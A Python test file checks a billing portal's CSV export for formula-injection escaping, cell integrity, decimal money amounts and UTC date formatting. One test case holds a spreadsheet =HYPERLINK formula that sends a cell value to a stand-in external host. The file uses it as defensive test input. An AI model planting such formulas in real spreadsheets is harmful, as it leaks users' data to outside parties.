"""CSV files: no cell runs in a spreadsheet, numbers stay numbers, and what was written is what is read."""

import csv
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from billwright.kernel.money import MINOR_UNIT_DIGITS
from billwright.web.portal.csv_export import BOM, CHUNK_BYTES, Cell, cell_text, csv_lines, money_cells, safe_text

RUNS = tuple("=+-@\t\r\n＝＋－＠")
texts = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=40)
dangerous = st.builds(lambda start, rest: start + rest, st.sampled_from(RUNS), texts)


def read_back(chunks: Iterator[bytes]) -> list[list[str]]:
    body = b"".join(chunks)
    assert body.startswith(BOM)
    return list(csv.reader(StringIO(body.decode("utf-8-sig"), newline=""), strict=True))


@given(st.one_of(texts, dangerous))
def test_no_text_starts_a_formula_and_none_is_lost(text: str) -> None:
    cell = safe_text(text)
    assert not cell.startswith(RUNS)
    assert cell == text or cell == f"'{text}"
    assert (cell != text) == text.startswith(RUNS)


@given(st.lists(st.lists(st.one_of(texts, dangerous), min_size=2, max_size=2), max_size=12))
def test_no_text_breaks_out_of_its_cell(rows: list[list[str]]) -> None:
    header, *found = read_back(csv_lines(["a", "b"], rows))
    assert header == ["a", "b"]
    assert found == [[safe_text(each) for each in row] for row in rows]


@given(st.integers(-(10**15), 10**15), st.sampled_from(sorted(MINOR_UNIT_DIGITS)))
def test_amounts_are_plain_decimals_beside_their_currency(minor: int, currency: str) -> None:
    cells = money_cells(minor, currency)
    amount = cell_text(cells[0])
    assert cells[1] == currency
    assert Decimal(amount).scaleb(MINOR_UNIT_DIGITS[currency]) == minor
    assert set(amount) <= set("-0123456789.")


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        (None, ""), ("", ""), (-5, "-5"), (Decimal("-12.50"), "-12.50"), (Decimal("1E+3"), "1000"), ("-12.50", "'-12.50"),
        (date(2026, 3, 31), "2026-03-31"), (datetime(2026, 3, 31, 23, 30, tzinfo=UTC), "2026-03-31T23:30:00Z"),
        (datetime(2026, 4, 1, 1, 30, tzinfo=timezone(timedelta(hours=2))), "2026-03-31T23:30:00Z"),
        ("=HYPERLINK(\"http://elsewhere.example?\"&A1)", "'=HYPERLINK(\"http://elsewhere.example?\"&A1)"),
        ("Müller & Söhne", "Müller & Söhne"), ("a=b", "a=b"),
    ],
)  # fmt: skip
def test_cells(cell: Cell, text: str) -> None:
    assert cell_text(cell) == text


def test_headers_are_as_safe_as_cells() -> None:
    assert read_back(csv_lines(["=a", "b"], [])) == [["'=a", "b"]]


def test_a_long_file_comes_in_pieces() -> None:
    rows: list[Sequence[Cell]] = [["x" * 1000]] * 200
    chunks = list(csv_lines(["a"], rows))
    assert max(map(len, chunks)) < CHUNK_BYTES + 2000
    assert len(read_back(iter(chunks))) == 201
